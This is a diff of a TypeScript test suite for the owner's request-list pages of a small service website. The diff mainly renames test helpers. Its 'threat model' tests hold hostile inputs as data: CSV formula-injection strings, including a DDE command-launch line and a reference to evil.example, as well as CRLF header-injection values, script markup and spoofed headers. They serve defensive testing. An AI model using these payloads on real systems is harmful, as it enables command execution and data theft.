@@ -8,7 +8,7 @@ import { readServerSettings } from '../../src/lib/settings/server-settings.ts';
 import { parseCsv } from './csv.ts';
 import {
   exampleQuote,
-  openWhileServing,
+  openSecondConnection,
   postJson,
   readStored,
   send,
@@ -25,7 +25,7 @@ const startWithPage = (options: SiteOptions = {}) => startSite(undefined, { requ
 const addRequest = async (site: TestSite, changes: object = {}): Promise<string> =>
   JSON.parse((await postJson(site.url, { ...exampleQuote, ...changes })).text).id;
 
-interface Asked {
+interface BrowserRequest {
   cookie?: string | undefined;
   form?: Record<string, string>;
   headers?: Record<string, string>;
@@ -33,7 +33,11 @@ interface Asked {
 }
 
 /** Sends a request as a browser would, with its own origin for a form. */
-function ask(site: TestSite, path: string, { cookie, form, headers, method }: Asked = {}): Promise<TestResponse> {
+function sendAsBrowser(
+  site: TestSite,
+  path: string,
+  { cookie, form, headers, method }: BrowserRequest = {},
+): Promise<TestResponse> {
   const own = form && { 'Content-Type': 'application/x-www-form-urlencoded', Origin: site.url };
   const all = { ...(cookie && { cookie }), ...own, ...headers };
   const body = form && new URLSearchParams(form).toString();
@@ -41,7 +45,7 @@ function ask(site: TestSite, path: string, { cookie, form, headers, method }: As
 }
 
 const signInWith = (site: TestSite, password: string, headers: Record<string, string> = {}) =>
-  ask(site, '/requests/sign-in', { form: { password }, headers });
+  sendAsBrowser(site, '/requests/sign-in', { form: { password }, headers });
 
 const getCookie = ({ headers }: TestResponse) => headers['set-cookie']?.[0]?.split(';')[0];
 
@@ -70,7 +74,7 @@ describe('the list', () => {
   test('without a password there is no list of requests', async () => {
     const site = await startSite();
     for (const path of ['/requests', '/requests/sign-in', '/requests/requests.csv']) {
-      expect((await ask(site, path)).status).toBe(404);
+      expect((await sendAsBrowser(site, path)).status).toBe(404);
     }
     expect(() => readServerSettings({ REQUESTS_PASSWORD: 'too short' })).toThrow(/REQUESTS_PASSWORD: must have 16/);
   });
@@ -79,7 +83,7 @@ describe('the list', () => {
     const { site, cookie } = await startSignedIn({ now: () => Date.parse('2026-11-28T16:07:00Z') });
     await addRequest(site, { name: 'Marge Olson', message: 'one\ntwo' });
     await addRequest(site, { name: 'Tom Hale', email: '', property: 'warehouse' });
-    const answer = await ask(site, '/requests', { cookie });
+    const answer = await sendAsBrowser(site, '/requests', { cookie });
     const [first, second] = readArticles(answer);
     expect(first).toContain('Tom Hale');
     expect(first).toContain('No email address');
@@ -122,7 +126,7 @@ describe('the list', () => {
       '/requests/sign-in',
     ];
     for (const path of paths) {
-      const { text } = await ask(site, path, { cookie });
+      const { text } = await sendAsBrowser(site, path, { cookie });
       expect(text).not.toMatch(/<script|\son\w+=|style=/i);
       const report = await pageRules.validateString(text);
       expect(
@@ -143,20 +147,22 @@ describe('the list', () => {
     const { site, cookie } = await startSignedIn();
     await addRequest(site, { service: 'roof-cleaning', name: 'Tom Hale' });
     const id = await addRequest(site, { name: 'Marge Olson', phone: '719-555-0133' });
-    await ask(site, `/requests/${id}/note`, { cookie, form: { note: 'Booked for Tuesday' } });
-    const articles = readArticles(await ask(site, `/requests?search=${encodeURIComponent(search)}`, { cookie }));
+    await sendAsBrowser(site, `/requests/${id}/note`, { cookie, form: { note: 'Booked for Tuesday' } });
+    const articles = readArticles(
+      await sendAsBrowser(site, `/requests?search=${encodeURIComponent(search)}`, { cookie }),
+    );
     expect(articles.map((text) => text.includes('Marge Olson'))).toEqual(isFound ? [true] : []);
   });
 
   test('the list has pages of fifty that keep the search', async () => {
     const { site, cookie } = await startSignedIn();
     for (let number = 1; number <= 51; number += 1) await addRequest(site, { name: `Number ${number}.` });
-    const first = await ask(site, '/requests?search=number', { cookie });
+    const first = await sendAsBrowser(site, '/requests?search=number', { cookie });
     expect(readArticles(first)).toHaveLength(50);
     const older = parse(first.text).querySelectorAll('nav a').at(-1)?.getAttribute('href');
-    const [last] = readArticles(await ask(site, older ?? '', { cookie }));
+    const [last] = readArticles(await sendAsBrowser(site, older ?? '', { cookie }));
     expect(last).toContain('Number 1.');
-    expect(readArticles(await ask(site, '/requests?page=999', { cookie }))).toHaveLength(1);
+    expect(readArticles(await sendAsBrowser(site, '/requests?page=999', { cookie }))).toHaveLength(1);
   });
 
   test('the list stays below 200 KB, and the page of a request shows everything', async () => {
@@ -165,10 +171,10 @@ describe('the list', () => {
     let id = '';
     for (let number = 0; number < 50; number += 1)
       id = await addRequest(site, { name: long, message: `${long}END`, address: long });
-    const { body, text } = await ask(site, '/requests', { cookie });
+    const { body, text } = await sendAsBrowser(site, '/requests', { cookie });
     expect(body.length).toBeLessThan(200_000);
     expect(text).toContain('Read the whole message');
-    expect((await ask(site, `/requests/${id}`, { cookie })).text).toContain('END');
+    expect((await sendAsBrowser(site, `/requests/${id}`, { cookie })).text).toContain('END');
   });
 
   test('a long message opens without script, and a short one is whole', async () => {
@@ -176,7 +182,7 @@ describe('the list', () => {
     await addRequest(site, { message: 'Two windows.' });
     const message = 'Fourteen windows on two stories, hard water on the south side. '.repeat(4).trim();
     await addRequest(site, { message });
-    const [long, short] = parse((await ask(site, '/requests', { cookie })).text).querySelectorAll('article');
+    const [long, short] = parse((await sendAsBrowser(site, '/requests', { cookie })).text).querySelectorAll('article');
     expect(long?.querySelector('details .message')?.textContent).toBe(message);
     expect(long?.querySelector('summary')?.textContent).toMatch(/^Fourteen .{50,90}… The whole message$/);
     expect([short?.querySelector('details'), short?.querySelector('.message')?.textContent]).toEqual([
@@ -188,7 +194,7 @@ describe('the list', () => {
   test('the list omits the request of the launch check', async () => {
     const { site, cookie } = await startSignedIn();
     await addRequest(site, { name: 'Launch check, please ignore' });
-    expect(readArticles(await ask(site, '/requests?show=all', { cookie }))).toEqual([]);
+    expect(readArticles(await sendAsBrowser(site, '/requests?show=all', { cookie }))).toEqual([]);
   });
 });
 
@@ -201,25 +207,27 @@ describe('the owner', () => {
   test('the owner saves note and mark together on the page of a request', async () => {
     const { site, cookie } = await startSignedIn();
     const id = await addRequest(site);
-    const form = parse((await ask(site, `/requests/${id}`, { cookie })).text).querySelector('form:has(#note)');
+    const form = parse((await sendAsBrowser(site, `/requests/${id}`, { cookie })).text).querySelector(
+      'form:has(#note)',
+    );
     expect(form?.querySelectorAll('.main')).toHaveLength(1);
     const action = form?.querySelector('[formaction]')?.getAttribute('formaction') ?? '';
-    await ask(site, action, { cookie, form: { note: 'Booked for Tuesday' } });
-    const [done] = readArticles(await ask(site, '/requests?show=done', { cookie }));
+    await sendAsBrowser(site, action, { cookie, form: { note: 'Booked for Tuesday' } });
+    const [done] = readArticles(await sendAsBrowser(site, '/requests?show=done', { cookie }));
     expect(done).toContain('Booked for Tuesday');
-    await ask(site, `/requests/${id}/new`, { cookie, form: {} });
-    expect(readArticles(await ask(site, '/requests', { cookie }))[0]).toContain('Booked for Tuesday');
+    await sendAsBrowser(site, `/requests/${id}/new`, { cookie, form: {} });
+    expect(readArticles(await sendAsBrowser(site, '/requests', { cookie }))[0]).toContain('Booked for Tuesday');
   });
 
   test('the owner stays signed in when the server restarts', async () => {
     const { site, cookie } = await startSignedIn();
     await site.close();
     const restarted = await startWithPage({ quotesDirectory: site.quotesDirectory });
-    expect((await ask(restarted, '/requests', { cookie })).status).toBe(200);
-    await ask(restarted, '/requests/sign-out', { cookie, form: {} });
+    expect((await sendAsBrowser(restarted, '/requests', { cookie })).status).toBe(200);
+    await sendAsBrowser(restarted, '/requests/sign-out', { cookie, form: {} });
     await restarted.close();
     const again = await startWithPage({ quotesDirectory: site.quotesDirectory });
-    expect((await ask(again, '/requests', { cookie })).status).toBe(303);
+    expect((await sendAsBrowser(again, '/requests', { cookie })).status).toBe(303);
   });
 
   test.each([
@@ -228,8 +236,8 @@ describe('the owner', () => {
   ])('the note of the button %s is kept if the sign-in has expired', async (action, note) => {
     const { site, cookie } = await startSignedIn();
     const id = await addRequest(site);
-    await ask(site, '/requests/sign-out', { cookie, form: {} });
-    const refused = await ask(site, `/requests/${id}/${action}?show=all`, { cookie, form: { note } });
+    await sendAsBrowser(site, '/requests/sign-out', { cookie, form: {} });
+    const refused = await sendAsBrowser(site, `/requests/${id}/${action}?show=all`, { cookie, form: { note } });
     expect(refused.text).toContain('You were signed out. Sign in, and your note is saved.');
     const readForm = ({ text }: TestResponse) => {
       const form = parse(text).querySelector('form');
@@ -240,14 +248,14 @@ describe('the owner', () => {
       return { path: form?.getAttribute('action') ?? '', form: { ...Object.fromEntries(fields ?? []), note: typed } };
     };
     const first = readForm(refused);
-    const mistyped = await ask(site, first.path, { form: { ...first.form, password: 'wrong' } });
+    const mistyped = await sendAsBrowser(site, first.path, { form: { ...first.form, password: 'wrong' } });
     expect(mistyped.status).toBe(403);
     const second = readForm(mistyped);
-    const answer = await ask(site, second.path, { form: { ...second.form, password: requestsPassword } });
+    const answer = await sendAsBrowser(site, second.path, { form: { ...second.form, password: requestsPassword } });
     expect(answer.headers.location).toBe(
       action === 'note' ? `/requests/${id}?show=all&saved=` : `/requests?show=all&marked=${id}#marked`,
     );
-    const shown = await ask(site, `/requests/${id}`, { cookie: getCookie(answer) });
+    const shown = await sendAsBrowser(site, `/requests/${id}`, { cookie: getCookie(answer) });
     expect(parseFragment(shown.text, 'textarea')).toBe(note);
     expect(shown.text).toContain(action === 'done' ? 'Mark as new' : 'Mark as done');
   });
@@ -255,16 +263,16 @@ describe('the owner', () => {
   test('the owner finds a done request from the list of new ones', async () => {
     const { site, cookie } = await startSignedIn();
     const id = await addRequest(site);
-    await ask(site, `/requests/${id}/done`, { cookie, form: {} });
-    const form = parse((await ask(site, '/requests', { cookie })).text).querySelector('form[role=search]');
+    await sendAsBrowser(site, `/requests/${id}/done`, { cookie, form: {} });
+    const form = parse((await sendAsBrowser(site, '/requests', { cookie })).text).querySelector('form[role=search]');
     expect(form?.querySelector('input[name=show]')?.getAttribute('value')).toBe('all');
-    expect(readArticles(await ask(site, '/requests?show=all&search=0188', { cookie }))).toHaveLength(1);
-    const empty = parse((await ask(site, '/requests?search=0188', { cookie })).text);
+    expect(readArticles(await sendAsBrowser(site, '/requests?show=all&search=0188', { cookie }))).toHaveLength(1);
+    const empty = parse((await sendAsBrowser(site, '/requests?search=0188', { cookie })).text);
     expect(empty.textContent).toContain('No new requests with “0188”. Show 1 that is done Clear the search');
     const tabs = empty.querySelectorAll('.tabs a').map(({ textContent }) => textContent);
     expect(tabs).toEqual(['New (0)', 'Done (1)', 'All (1)']);
     const link = empty.querySelectorAll('.row a').find(({ textContent }) => textContent.startsWith('Show 1'));
-    expect(readArticles(await ask(site, link?.getAttribute('href') ?? '', { cookie }))).toHaveLength(1);
+    expect(readArticles(await sendAsBrowser(site, link?.getAttribute('href') ?? '', { cookie }))).toHaveLength(1);
   });
 
   test('a reopened request says so, with a link to it', async () => {
@@ -272,7 +280,7 @@ describe('the owner', () => {
     await addRequest(site, { name: 'Tom Hale' });
     const id = await addRequest(site);
     await addRequest(site, { name: 'Marge Olson' });
-    const { text } = await ask(site, `/requests?marked=${id}`, { cookie });
+    const { text } = await sendAsBrowser(site, `/requests?marked=${id}`, { cookie });
     const items = parse(text)
       .querySelectorAll('ol > li')
       .map((item) => item.querySelector('h2, .status')?.textContent.trim().split('\n')[0]);
@@ -294,7 +302,7 @@ describe('the owner', () => {
   ])('the list says at its top that %s fails, since when and why', async (target, error, sentences) => {
     const { site, cookie } = await startSignedIn({ now: () => Date.parse('2026-11-28T16:07:00Z') });
     const ids = [await addRequest(site), await addRequest(site)];
-    const database = openWhileServing(site.quotesDirectory);
+    const database = openSecondConnection(site.quotesDirectory);
     for (const id of ids)
       database.prepare(`INSERT INTO deliveries VALUES (?, ?, 'waiting', 0, 1, 1e15, '', 0)`).run(id, target);
     database
@@ -302,11 +310,11 @@ describe('the owner', () => {
       .run(target, Date.parse('2026-11-28T12:39:00Z'), error);
     database.close();
     const alerts = () =>
-      ask(site, '/requests', { cookie }).then(({ text }) => parse(text).querySelectorAll('[role=alert]'));
+      sendAsBrowser(site, '/requests', { cookie }).then(({ text }) => parse(text).querySelectorAll('[role=alert]'));
     expect((await alerts()).map(({ textContent }) => textContent)).toEqual([sentences]);
-    const list = readArticles(await ask(site, '/requests', { cookie }));
+    const list = readArticles(await sendAsBrowser(site, '/requests', { cookie }));
     for (const card of list) expect(card).not.toContain(error);
-    const repaired = openWhileServing(site.quotesDirectory);
+    const repaired = openSecondConnection(site.quotesDirectory);
     repaired.exec(`DELETE FROM failing_targets`);
     repaired.close();
     expect(await alerts()).toEqual([]);
@@ -315,22 +323,22 @@ describe('the owner', () => {
   test('the owner marks a request as done and undoes it', async () => {
     const { site, cookie } = await startSignedIn();
     const id = await addRequest(site);
-    const marked = await ask(site, `/requests/${id}/done`, { cookie, form: {} });
+    const marked = await sendAsBrowser(site, `/requests/${id}/done`, { cookie, form: {} });
     expect([marked.status, marked.headers.location]).toEqual([303, `/requests?marked=${id}#marked`]);
-    const list = await ask(site, `/requests?marked=${id}`, { cookie });
+    const list = await sendAsBrowser(site, `/requests?marked=${id}`, { cookie });
     expect(parse(list.text).querySelector('[role=status]')?.textContent).toContain('Dana Reyes is done.');
     expect(readArticles(list)).toEqual([]);
-    expect(readArticles(await ask(site, '/requests?show=done', { cookie }))).toHaveLength(1);
-    await ask(site, `/requests/${id}/new`, { cookie, form: {} });
-    expect(readArticles(await ask(site, '/requests', { cookie }))).toHaveLength(1);
+    expect(readArticles(await sendAsBrowser(site, '/requests?show=done', { cookie }))).toHaveLength(1);
+    await sendAsBrowser(site, `/requests/${id}/new`, { cookie, form: {} });
+    expect(readArticles(await sendAsBrowser(site, '/requests', { cookie }))).toHaveLength(1);
   });
 
   test('the owner returns to the page and search from which she marked a request', async () => {
     const { site, cookie } = await startSignedIn();
     const id = await addRequest(site);
-    const { text } = await ask(site, '/requests?show=all&search=reyes', { cookie });
+    const { text } = await sendAsBrowser(site, '/requests?show=all&search=reyes', { cookie });
     const action = parse(text).querySelector('article form')?.getAttribute('action') ?? '';
-    const { headers } = await ask(site, action, { cookie, form: {} });
+    const { headers } = await sendAsBrowser(site, action, { cookie, form: {} });
     expect(headers.location).toBe(`/requests?show=all&search=reyes&marked=${id}#marked`);
   });
 
@@ -338,27 +346,27 @@ describe('the owner', () => {
     const { site, cookie } = await startSignedIn();
     const id = await addRequest(site);
     const path = `/requests/${id}`;
-    expect((await ask(site, `${path}/note`, { cookie, form: { note: 'one\r\ntwo' } })).status).toBe(303);
+    expect((await sendAsBrowser(site, `${path}/note`, { cookie, form: { note: 'one\r\ntwo' } })).status).toBe(303);
     const readNote = ({ text }: TestResponse) => parse(text).querySelector('textarea')?.textContent.trim();
-    expect(readNote(await ask(site, path, { cookie }))).toBe('one\ntwo');
-    const refused = await ask(site, `${path}/note`, { cookie, form: { note: 'n'.repeat(2_001) } });
+    expect(readNote(await sendAsBrowser(site, path, { cookie }))).toBe('one\ntwo');
+    const refused = await sendAsBrowser(site, `${path}/note`, { cookie, form: { note: 'n'.repeat(2_001) } });
     expect([refused.status, readNote(refused)]).toEqual([400, 'n'.repeat(2_001)]);
     expect(refused.text).toContain('A note has up to 2000 characters');
-    expect(readNote(await ask(site, path, { cookie }))).toBe('one\ntwo');
+    expect(readNote(await sendAsBrowser(site, path, { cookie }))).toBe('one\ntwo');
   });
 
   test('the owner deletes a request with its note and reads where copies remain', async () => {
     const { site, cookie } = await startSignedIn();
     const id = await addRequest(site);
-    await ask(site, `/requests/${id}/note`, { cookie, form: { note: 'Booked' } });
-    const database = openWhileServing(site.quotesDirectory);
+    await sendAsBrowser(site, `/requests/${id}/note`, { cookie, form: { note: 'Booked' } });
+    const database = openSecondConnection(site.quotesDirectory);
     database.prepare(`INSERT INTO deliveries VALUES (?, 'mail', 'delivered', 0, 1, 0, '', 0)`).run(id);
     database.close();
-    const { status, text } = await ask(site, `/requests/${id}/delete`, { cookie, form: {} });
+    const { status, text } = await sendAsBrowser(site, `/requests/${id}/delete`, { cookie, form: {} });
     expect([status, text]).toEqual([200, expect.stringContaining('It was mailed to you: delete the message too.')]);
     expect(readStored(site.quotesDirectory)).toEqual([]);
     for (const action of ['', '/done', '/note', '/delete']) {
-      const gone = await ask(site, `/requests/${id}${action}`, { cookie, ...(action && { form: {} }) });
+      const gone = await sendAsBrowser(site, `/requests/${id}${action}`, { cookie, ...(action && { form: {} }) });
       expect([gone.status, gone.text]).toEqual([404, expect.stringContaining('There is no such request.')]);
     }
   });
@@ -366,10 +374,12 @@ describe('the owner', () => {
   test('the owner reads how long requests are stored', async () => {
     const { site, cookie } = await startSignedIn({ now: () => Date.parse('2026-11-28T16:07:00Z') });
     const id = await addRequest(site);
-    expect((await ask(site, '/requests', { cookie })).text).toContain('after about 7 years (2557 days)');
-    expect((await ask(site, `/requests/${id}`, { cookie })).text).toContain('on about Nov 28, 2033');
+    expect((await sendAsBrowser(site, '/requests', { cookie })).text).toContain('after about 7 years (2557 days)');
+    expect((await sendAsBrowser(site, `/requests/${id}`, { cookie })).text).toContain('on about Nov 28, 2033');
     const forever = await startSignedIn({ keepDays: 0 });
-    expect((await ask(forever.site, '/requests', { cookie: forever.cookie })).text).toContain('until you delete them');
+    expect((await sendAsBrowser(forever.site, '/requests', { cookie: forever.cookie })).text).toContain(
+      'until you delete them',
+    );
   });
 
   test.each([
@@ -386,18 +396,18 @@ describe('the owner', () => {
   ])('the owner reads in a sentence that %s is %s', async (target, state, error, sentence) => {
     const { site, cookie } = await startSignedIn();
     const id = await addRequest(site);
-    const database = openWhileServing(site.quotesDirectory);
+    const database = openSecondConnection(site.quotesDirectory);
     database.prepare('INSERT INTO deliveries VALUES (?, ?, ?, 0, 1, ?, ?, 0)').run(id, target, state, 1e15, error);
     database.close();
-    expect(readArticles(await ask(site, '/requests', { cookie }))[0]).toContain(sentence);
+    expect(readArticles(await sendAsBrowser(site, '/requests', { cookie }))[0]).toContain(sentence);
   });
 
   test('a damaged database causes a sentence, not a stack trace', async () => {
     const { site, cookie } = await startSignedIn();
-    const database = openWhileServing(site.quotesDirectory);
+    const database = openSecondConnection(site.quotesDirectory);
     database.exec(`INSERT INTO requests VALUES (1, 'x', 0, '{"name": Dana', '', NULL)`);
     database.close();
-    const { status, text } = await ask(site, '/requests', { cookie });
+    const { status, text } = await sendAsBrowser(site, '/requests', { cookie });
     expect([status, text]).toEqual([503, expect.stringContaining('None is lost')]);
     // The error of the JSON parser quotes the visitor's text.
     expect(site.printed.join('')).toContain('The page of requests failed');
@@ -409,8 +419,8 @@ describe('the spreadsheet', () => {
   test('the spreadsheet has Denver time, labels, the state and the note', async () => {
     const { site, cookie } = await startSignedIn({ now: () => Date.parse('2026-11-28T16:07:00Z') });
     const id = await addRequest(site);
-    await ask(site, `/requests/${id}/note`, { cookie, form: { note: 'Booked' } });
-    const answer = await ask(site, '/requests/requests.csv?show=all', { cookie });
+    await sendAsBrowser(site, `/requests/${id}/note`, { cookie, form: { note: 'Booked' } });
+    const answer = await sendAsBrowser(site, '/requests/requests.csv?show=all', { cookie });
     expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8');
     expect(answer.headers['content-disposition']).toBe('attachment; filename="requests-2026-11-28.csv"');
     const [headings = [], cells = []] = readCsv(answer.text);
@@ -431,7 +441,7 @@ describe('the spreadsheet', () => {
     const { site, cookie } = await startSignedIn();
     await addRequest(site);
     await addRequest(site, { name: 'Tom Hale' });
-    const { text } = await ask(site, '/requests/requests.csv?search=hale', { cookie });
+    const { text } = await sendAsBrowser(site, '/requests/requests.csv?search=hale', { cookie });
     expect(
       readCsv(text)
         .slice(1)
@@ -443,7 +453,7 @@ describe('the spreadsheet', () => {
     const { site, cookie } = await startSignedIn();
     const message = 'Two jobs:\n- gutters, -2 panes\n- the door = new, @home';
     await addRequest(site, { message });
-    expect(readCsv((await ask(site, '/requests/requests.csv', { cookie })).text)[1]).toContain(message);
+    expect(readCsv((await sendAsBrowser(site, '/requests/requests.csv', { cookie })).text)[1]).toContain(message);
   });
 
   test.each([
@@ -492,7 +502,10 @@ describe('the threat model', () => {
     const cookie = getCookie(await from('198.51.100.1', requestsPassword));
     for (let attempt = 0; attempt < 99; attempt += 1) await from(`192.0.2.${attempt}`, 'wrong');
     expect((await from('198.51.100.2', requestsPassword)).status).toBe(429);
-    const list = await ask(site, '/requests', { cookie, headers: { ...proxied, 'X-Forwarded-For': '198.51.100.1' } });
+    const list = await sendAsBrowser(site, '/requests', {
+      cookie,
+      headers: { ...proxied, 'X-Forwarded-For': '198.51.100.1' },
+    });
     expect(list.status).toBe(200);
   });
 
@@ -527,9 +540,9 @@ describe('the threat model', () => {
   ])('strangers: %s shows nothing without a session, with a forged one or after sign-out', async (path) => {
     const { site, cookie } = await startSignedIn();
     await addRequest(site);
-    await ask(site, '/requests/sign-out', { cookie, form: {} });
+    await sendAsBrowser(site, '/requests/sign-out', { cookie, form: {} });
     for (const made of [undefined, 'requests=', 'requests=undefined', cookie]) {
-      const { status, text } = await ask(site, path, { cookie: made });
+      const { status, text } = await sendAsBrowser(site, path, { cookie: made });
       expect([303, 400, 404]).toContain(status);
       expect(text).not.toContain('Dana');
     }
@@ -539,15 +552,15 @@ describe('the threat model', () => {
     const site = await startWithPage();
     const id = await addRequest(site);
     for (const action of ['done', 'new', 'note', 'delete']) {
-      const { status, text } = await ask(site, `/requests/${id}/${action}`, { form: { note: 'mine' } });
+      const { status, text } = await sendAsBrowser(site, `/requests/${id}/${action}`, { form: { note: 'mine' } });
       expect(status).toBe(action === 'delete' ? 303 : 403);
       expect(text).not.toContain('Dana');
       const kept = { password: 'wrong', request: id, action, note: 'mine' };
-      expect((await ask(site, '/requests/sign-in', { form: kept })).status).toBe(403);
+      expect((await sendAsBrowser(site, '/requests/sign-in', { form: kept })).status).toBe(403);
     }
     expect(readStored(site.quotesDirectory)).toHaveLength(1);
     const cookie = await signIn(site);
-    const { text } = await ask(site, `/requests/${id}`, { cookie });
+    const { text } = await sendAsBrowser(site, `/requests/${id}`, { cookie });
     expect(text).not.toContain('mine');
     expect(text).toContain('Mark as done');
   });
@@ -558,13 +571,13 @@ describe('the threat model', () => {
     const { site, cookie } = await startSignedIn({ now: () => time });
     const statuses: number[] = [];
     for (time of [start + 14 * day - 1, start + 14 * day, start - 1])
-      statuses.push((await ask(site, '/requests', { cookie })).status);
+      statuses.push((await sendAsBrowser(site, '/requests', { cookie })).status);
     expect(statuses).toEqual([200, 303, 303]);
   });
 
   test('strangers: a new password ends sessions, and the database stores no credentials', async () => {
     const { site, cookie } = await startSignedIn();
-    const database = openWhileServing(site.quotesDirectory);
+    const database = openSecondConnection(site.quotesDirectory);
     const [stored] = database.prepare('SELECT token_hash AS hash FROM owner_sessions').all();
     database.close();
     const token = cookie.slice('requests='.length);
@@ -576,7 +589,7 @@ describe('the threat model', () => {
     await site.close();
     const { quotesDirectory } = site;
     const other = await startWithPage({ quotesDirectory, requestsPassword: 'another four random words' });
-    expect((await ask(other, '/requests', { cookie })).status).toBe(303);
+    expect((await sendAsBrowser(other, '/requests', { cookie })).status).toBe(303);
   });
 
   test('strangers: no body longer than a note is read before there is a session', async () => {
@@ -623,12 +636,16 @@ describe('the threat model', () => {
     const { site, cookie } = await startSignedIn();
     const id = await addRequest(site);
     for (const action of ['done', 'new', 'note', 'delete']) {
-      const { status } = await ask(site, `/requests/${id}/${action}`, { cookie, form: { note: 'x' }, headers });
+      const { status } = await sendAsBrowser(site, `/requests/${id}/${action}`, {
+        cookie,
+        form: { note: 'x' },
+        headers,
+      });
       expect(status).toBe(403);
     }
     const refused = await signInWith(site, requestsPassword, headers);
     expect([refused.status, refused.headers['set-cookie']]).toEqual([403, undefined]);
-    expect(readArticles(await ask(site, '/requests', { cookie }))).toHaveLength(1);
+    expect(readArticles(await sendAsBrowser(site, '/requests', { cookie }))).toHaveLength(1);
   });
 
   test.each([
@@ -647,7 +664,7 @@ describe('the threat model', () => {
     const id = await addRequest(site);
     const headers = { 'X-HTTP-Method-Override': 'POST' };
     for (const action of ['', '/delete'])
-      expect((await ask(site, `/requests/${id}${action}`, { cookie, method, headers })).status).toBe(405);
+      expect((await sendAsBrowser(site, `/requests/${id}${action}`, { cookie, method, headers })).status).toBe(405);
     expect(readStored(site.quotesDirectory)).toHaveLength(1);
   });
 
@@ -655,25 +672,25 @@ describe('the threat model', () => {
     const { site, cookie } = await startSignedIn();
     const id = await addRequest(site);
     for (const action of ['done', 'note', 'delete']) {
-      expect((await ask(site, `/requests/${id}/${action}`, { cookie })).status).toBe(404);
+      expect((await sendAsBrowser(site, `/requests/${id}/${action}`, { cookie })).status).toBe(404);
     }
-    expect(readArticles(await ask(site, '/requests', { cookie }))).toHaveLength(1);
+    expect(readArticles(await sendAsBrowser(site, '/requests', { cookie }))).toHaveLength(1);
   });
 
   test('framing, caches and scripts: every response forbids them, also errors and the spreadsheet', async () => {
     const { site, cookie } = await startSignedIn();
     const id = await addRequest(site);
     const answers = [
-      await ask(site, '/requests', { cookie }),
-      await ask(site, `/requests/${id}`, { cookie }),
-      await ask(site, '/requests/none', { cookie }),
-      await ask(site, '/requests/requests.csv', { cookie }),
-      await ask(site, `/requests/${id}/done`, { cookie, form: {} }),
-      await ask(site, '/requests'),
-      await ask(site, '/requests/sign-in'),
+      await sendAsBrowser(site, '/requests', { cookie }),
+      await sendAsBrowser(site, `/requests/${id}`, { cookie }),
+      await sendAsBrowser(site, '/requests/none', { cookie }),
+      await sendAsBrowser(site, '/requests/requests.csv', { cookie }),
+      await sendAsBrowser(site, `/requests/${id}/done`, { cookie, form: {} }),
+      await sendAsBrowser(site, '/requests'),
+      await sendAsBrowser(site, '/requests/sign-in'),
       await signInWith(site, 'wrong'),
       await signInWith(site, 'wrong', { Origin: 'null' }),
-      await ask(site, '/requests', { headers: { Host: 'evil.example' } }),
+      await sendAsBrowser(site, '/requests', { headers: { Host: 'evil.example' } }),
     ];
     for (const { headers } of answers) {
       expect(headers['cache-control']).toBe('no-store');
@@ -689,10 +706,10 @@ describe('the threat model', () => {
     const { site, cookie } = await startSignedIn();
     const id = await addRequest(site, { email: 'eve?bcc=all%0D@example.com' });
     const query = `?show=done&search=${encodeURIComponent('x\r\nSet-Cookie: a=b')}&next=${encodeURIComponent('//evil.example\r\nX: y')}`;
-    const { headers } = await ask(site, `/requests/${id}/done${query}`, { cookie, form: {} });
+    const { headers } = await sendAsBrowser(site, `/requests/${id}/done${query}`, { cookie, form: {} });
     expect(headers.location).toMatch(/^\/requests\?show=done&search=x%0D%0ASet-Cookie/);
     expect([headers['set-cookie'], headers['x']]).toEqual([undefined, undefined]);
-    const { text } = await ask(site, `/requests/${id}`, { cookie });
+    const { text } = await sendAsBrowser(site, `/requests/${id}`, { cookie });
     expect(text).toContain('mailto:eve%3Fbcc%3Dall%250D@example.com?subject=');
   });
 
@@ -707,13 +724,13 @@ describe('the threat model', () => {
       service: '=1+1',
       [formula]: formula,
     });
-    await ask(site, `/requests/${id}/note`, { cookie, form: { note: `\t${formula}` } });
-    const { text } = await ask(site, '/requests/requests.csv', { cookie });
+    await sendAsBrowser(site, `/requests/${id}/note`, { cookie, form: { note: `\t${formula}` } });
+    const { text } = await sendAsBrowser(site, '/requests/requests.csv', { cookie });
     await addRequest(site, { message: `one,;@SUM(1)\n=cmd|' /C calc'!A0` });
     await addRequest(site, { message: `one;='//evil.example/[a.xls]b'!A1` });
     for (const sign of ['＝', '＋', '－', '＠', '\r=', '\t+', ' \u200b-', ';@'])
       await addRequest(site, { name: `${sign}1+1`, message: `one,${sign}1+1` });
-    const { text: full } = await ask(site, '/requests/requests.csv', { cookie });
+    const { text: full } = await sendAsBrowser(site, '/requests/requests.csv', { cookie });
     for (const cell of readCsv(full).flat()) expect(cell).not.toMatch(/^[\s;,|"\u200b]*[=+\-@＝＋－＠]1/);
     for (const cell of readCsv(text).flat()) expect(cell).not.toMatch(/^[\s"]*[=+\-@]|[\t\n;,|]\s*[=+\-@]/);
     expect(text).toContain("'=HYPERLINK");
@@ -733,9 +750,9 @@ describe('the threat model', () => {
       property: markup,
       [markup]: markup,
     });
-    await ask(site, `/requests/${id}/note`, { cookie, form: { note: `</textarea>${markup}` } });
+    await sendAsBrowser(site, `/requests/${id}/note`, { cookie, form: { note: `</textarea>${markup}` } });
     for (const path of [`/requests?search=${encodeURIComponent(markup)}`, `/requests/${id}`]) {
-      const { text } = await ask(site, path, { cookie });
+      const { text } = await sendAsBrowser(site, path, { cookie });
       expect(readArticles({ text } as TestResponse)).toHaveLength(1);
       expect(parse(text).querySelectorAll('script, img, article [onerror]')).toEqual([]);
       expect(text).toContain('&lt;script&gt;');
@@ -747,7 +764,7 @@ describe('the threat model', () => {
     const text = 'a\u0000b\u001b[2Jc\u202egnp.exe\u2066d';
     const id = await addRequest(site, { name: text, message: text, address: text });
     for (const path of ['/requests', `/requests/${id}`, '/requests/requests.csv']) {
-      const { text: page } = await ask(site, path, { cookie });
+      const { text: page } = await sendAsBrowser(site, path, { cookie });
       expect(page).not.toMatch(/[\u0000-\u0008\u001b\u202a-\u202e\u2066-\u2069]/);
       expect(page).toContain(String.raw`\u202egnp.exe`);
     }
@@ -787,25 +804,25 @@ describe('the threat model', () => {
     ],
   ])('TLS and names: the page is offered or refused to %s', async (_, headers, status) => {
     const site = await startWithPage({ trustedProxies: '127.0.0.1', siteUrl: 'https://www.peak.test' });
-    expect((await ask(site, '/requests/sign-in', { headers })).status).toBe(status);
+    expect((await sendAsBrowser(site, '/requests/sign-in', { headers })).status).toBe(status);
   });
 
   test('TLS and names: only a trusted proxy can claim that a connection is encrypted', async () => {
     const site = await startWithPage({ siteUrl: 'https://www.peak.test' });
     const headers = { Host: 'www.peak.test', 'X-Forwarded-For': '192.0.2.1', 'X-Forwarded-Proto': 'https' };
